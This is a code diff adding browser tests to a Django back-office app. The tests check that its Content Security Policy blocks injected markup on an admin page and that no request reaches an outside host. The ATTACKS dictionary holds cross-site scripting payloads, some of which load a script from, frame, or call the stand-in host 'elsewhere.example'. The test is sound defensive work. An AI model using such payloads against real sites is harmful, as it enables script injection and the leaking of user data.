@@ -9,7 +9,7 @@ from django_otp.oath import totp
 
 from platforms.backoffice.verbs import Role
 from platforms.models import SecondFactor
-from tests import browser
+from tests import browser, patience
 from tests.backoffice.conftest import PASSWORD
 from tests.backoffice.reviews.conftest import person
 from tests.backoffice.reviews.test_browser import keep
@@ -20,6 +20,7 @@ pytestmark = [
     pytest.mark.usefixtures("ended_connections"),
 ]
 SCREEN = {"width": 1280, "height": 860}
+ELSEWHERE = "https://elsewhere.example"
 
 
 def code_of(name: str, *, later: int = 0) -> str:
@@ -110,3 +111,50 @@ def test_two_administrators_let_a_third_person_in(live_server, settings):
 
     dora = User.objects.get(username="dora")
     assert [group.name for group in dora.groups.all()] == ["reviewer"]
+
+
+ATTACKS = {
+    "a script": "<script>window.taken = 1</script>",
+    "a script of somebody else": f'<script src="{ELSEWHERE}/taken.js"></script>',
+    "an attribute": '<img src="x" onerror="window.taken = 1">',
+    "a link": '<a id="attack" href="javascript:window.taken = 1">x</a>',
+    "a frame": f'<iframe src="{ELSEWHERE}/"></iframe>',
+    "a picture that tells": f'<img src="{ELSEWHERE}/?told">',
+    "a form to somebody else": f'<form id="attack" action="{ELSEWHERE}/"><button>x</button></form>',
+    "a style": "<style>body { background-color: rgb(1, 2, 3) !important }</style>",
+}
+_SLIP_IN = """html => {
+    // What is parsed as part of a page, as if the server had sent it: scripts in it would run.
+    document.body.append(document.createRange().createContextualFragment(html));
+    document.querySelector("#attack")?.click?.();
+    document.querySelector("form#attack")?.requestSubmit();
+}"""
+_NOTE = """window.refused = [];
+document.addEventListener("securitypolicyviolation", event => refused.push(event.effectiveDirective));"""
+
+
+def test_what_is_slipped_into_a_page_neither_runs_nor_tells_anybody(live_server):
+    person("anna", Role.ADMINISTRATOR)
+    with browser.open_pages(viewport=SCREEN, is_attacked=True) as context:
+        page = context.new_page()
+        page.add_init_script(_NOTE)
+        told: list[str] = []
+        context.route(f"{ELSEWHERE}/**", lambda route: told.append(route.request.url) or route.abort())
+        sign_in(page, live_server.url, "anna")
+        page.wait_for_url(f"{live_server.url}/admin/")
+        for attack, html in ATTACKS.items():
+            page.evaluate(_SLIP_IN, html)
+            page.wait_for_function("refused.length", timeout=patience.LONG * 1000)
+            assert page.evaluate("window.taken") is None, attack
+            assert page.evaluate("getComputedStyle(document.body).backgroundColor") != "rgb(1, 2, 3)", attack
+            page.reload()
+        assert told == []
+
+
+def test_the_documentation_of_the_api_works_under_the_same_policy(live_server):
+    with browser.open_pages(viewport=SCREEN) as context:
+        page = context.new_page()
+        page.goto(f"{live_server.url}/docs/")
+        page.locator(".opblock").first.wait_for()
+        page.goto(f"{live_server.url}/docs/reference/")
+        page.locator("[data-section-id]").first.wait_for()
